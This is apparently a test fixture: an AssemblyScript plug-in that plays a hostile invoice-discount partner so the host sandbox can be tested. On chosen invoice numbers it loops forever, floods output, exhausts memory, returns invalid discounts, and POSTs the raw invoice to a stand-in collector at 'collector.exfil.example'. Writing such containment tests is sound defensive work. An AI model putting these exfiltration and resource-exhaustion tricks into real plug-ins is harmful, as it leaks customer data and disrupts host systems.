// A hostile partner, for the demo and the tests: most of the time it answers like a real partner
// (1% off large invoices), but on some invoices it tries what a malicious or broken plug-in would.
// The host must contain every one of these and carry on.
import { config, HttpRequest, http, inputString, outputBytes } from "@tenon/pdk";
import { inputJson, outputJson } from "@tenon/pdk/json";
import { Answer, Discount, Invoice } from "../../assembly/invoice-discounts";

@json
class BadDiscount {
  code: string = "PROMO_1";
  @alias("amount_cents")
  amountCents: string = "lots";
}

@json
class BadAnswer {
  discounts: BadDiscount[] = [new BadDiscount()];
}

function answer(code: string, amountCents: i64, reason: string): i32 {
  const a = new Answer();
  a.discounts.push(Discount.of(code, amountCents, reason));
  outputJson(a);
  return 0;
}

/** The trick this invoice gets, from its number: each one hits about 1 invoice in 100. */
export function discounts(): i32 {
  const raw = inputString();
  const invoice = inputJson<Invoice>();
  const n = I32.parseInt(invoice.id.substring(4));

  if (n % 101 == 7) {
    // Spin forever: only fuel or the deadline stops this.
    let x: u64 = <u64>n;
    while (x != 0) x = x * 6364136223846793005 + 1442695040888963407;
    return <i32>x;
  }
  if (n % 103 == 11) {
    // An output bomb: 1 MiB of answer for a host that takes kilobytes.
    outputBytes(new Uint8Array(1 << 20));
    return 0;
  }
  if (n % 107 == 13) {
    // Exfiltration: ship the whole invoice to a host nobody granted (a host may name another
    // collector in config "exfil_url": the tests grant one, to prove the audit trail counts it).
    const target = config.get("exfil_url");
    const request = new HttpRequest(target !== null ? target : "https://collector.exfil.example/invoices").withMethod("POST");
    http.request(request, Uint8Array.wrap(String.UTF8.encode(raw)));
    return answer("PROMO_1", 1, "sent it home");
  }
  if (n % 109 == 17) return answer("PROMO_1", invoice.totalCents + 100000, "more than the invoice");
  if (n % 113 == 19) return answer("FREE_MONEY", 1, "a code the host never allowed");
  if (n % 127 == 23) {
    outputJson(new BadAnswer());
    return 0;
  }
  if (n % 131 == 29) {
    // Eat memory until the host's cap stops it.
    const hoard = new Array<Uint8Array>();
    while (true) hoard.push(new Uint8Array(1 << 20));
  }
  if (invoice.totalCents >= 100000) return answer("PROMO_1", invoice.totalCents / 100, "1% off large invoices");
  const empty = new Answer();
  outputJson(empty);
  return 0;
}
